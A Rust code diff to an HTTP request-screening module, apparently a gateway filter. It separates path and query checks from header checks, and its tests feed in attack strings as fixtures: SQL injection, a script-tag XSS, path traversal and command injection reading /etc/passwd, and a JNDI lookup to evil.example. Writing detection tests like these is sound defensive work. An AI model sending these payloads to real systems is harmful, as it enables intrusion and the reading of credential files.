@@ -3,7 +3,7 @@
 use percent_encoding::percent_decode_str;
 
 use super::note;
-use crate::access::Header;
+use crate::access::{Header, Target};
 use crate::problem::Refusal;
 use crate::screening::{Kind, Notes, Screening};
 
@@ -36,34 +36,40 @@ const STRUCTURED: [&str; 24] = [
     "x-request-id",
 ];
 
-pub(super) fn screen(
+/// The path, as it was normalised, and the query.
+pub(super) fn target(
+    screening: &Screening,
+    target: &Target,
+    notes: &mut Notes,
+) -> Result<(), Refusal> {
+    let path = percent_decode_str(&target.path).decode_utf8_lossy();
+    let query = target.query.as_deref().unwrap_or_default();
+    let parameters = form_urlencoded::parse(query.as_bytes());
+    let parts = parameters.flat_map(|(name, value)| [name, value]);
+    for part in [path].into_iter().chain(parts) {
+        note(&screening.attacks(&part), || ":path".to_owned(), notes)?;
+    }
+    Ok(())
+}
+
+pub(super) fn fields(
     screening: &Screening,
     headers: &[Header<'_>],
     notes: &mut Notes,
 ) -> Result<(), Refusal> {
     for (name, value) in headers {
-        let Ok(value) = std::str::from_utf8(value) else { continue };
+        if name.starts_with(':') || STRUCTURED.contains(name) {
+            continue;
+        }
+        // What is not UTF-8 is read as far as it is.
+        let value = String::from_utf8_lossy(value);
         match *name {
-            ":path" => target(screening, value, notes)?,
             // The signs between cookies are those between commands.
             "cookie" => {
-                value.split("; ").try_for_each(|cookie| field(screening, name, cookie, notes))?;
+                value.split("; ").try_for_each(|cookie| field(screening, name, cookie, notes))?
             }
-            name if name.starts_with(':') || STRUCTURED.contains(&name) => {}
-            name => field(screening, name, value, notes)?,
+            name => field(screening, name, &value, notes)?,
         }
-    }
-    Ok(())
-}
-
-fn target(screening: &Screening, target: &str, notes: &mut Notes) -> Result<(), Refusal> {
-    let (path, query) = target.split_once('?').unwrap_or((target, ""));
-    let path = percent_decode_str(path).decode_utf8_lossy();
-    let parameters = form_urlencoded::parse(query.as_bytes());
-    let parts = parameters.flat_map(|(name, value)| [name, value]);
-    for part in [path].into_iter().chain(parts) {
-        let found = screening.attacks(&part);
-        note(&found, || ":path".to_owned(), notes)?;
     }
     Ok(())
 }
@@ -84,10 +90,15 @@ mod tests {
     fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
         let section = InputSection { screening: Some(Default::default()), ..Default::default() };
         let screening = Screening::compile(&section, None, "input").unwrap();
+        let pseudo = [(":method", "GET"), (":authority", "api.example")];
         let headers: Vec<Header<'_>> =
-            fields.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
+            fields.iter().chain(&pseudo).map(|(name, value)| (*name, value.as_bytes())).collect();
         let mut notes = Notes::default();
-        screen(&screening, &headers, &mut notes).map(|()| notes)
+        if fields[0].0 == ":path" {
+            target(&screening, &Target::read(&headers)?, &mut notes)?;
+        }
+        super::fields(&screening, &headers, &mut notes)?;
+        Ok(notes)
     }
 
     #[test]
@@ -96,7 +107,7 @@ mod tests {
             (":path", "/search?q=1%27%20OR%20%271%27=%271"),
             (":path", "/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
             (":path", "/files?name=..%2f..%2f..%2fetc%2fpasswd"),
-            (":path", "/a;cat+/etc/passwd|sh"),
+            (":path", "/a;cat%20/etc/passwd%7Csh"),
             (":path", "/search?q=%00%1b1%27%20OR%20%271%27=%271"),
             ("user-agent", "${jndi:ldap://evil.example/a}"),
             ("referer", "https://a.example/?q=<script>alert(1)</script>"),
@@ -117,6 +128,7 @@ mod tests {
                 "/v1/chat/completions?api-version=2025-01-01&stream=true&filter=name%20eq%20%27a%27",
             ),
             (":path", "/v1/search?q=how+do+I+select+rows+from+a+table&page=2&sort=-date"),
+            (":path", "/x/..//v1/./predict?a=1"),
             (":path", "/v1/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
             (
                 "user-agent",
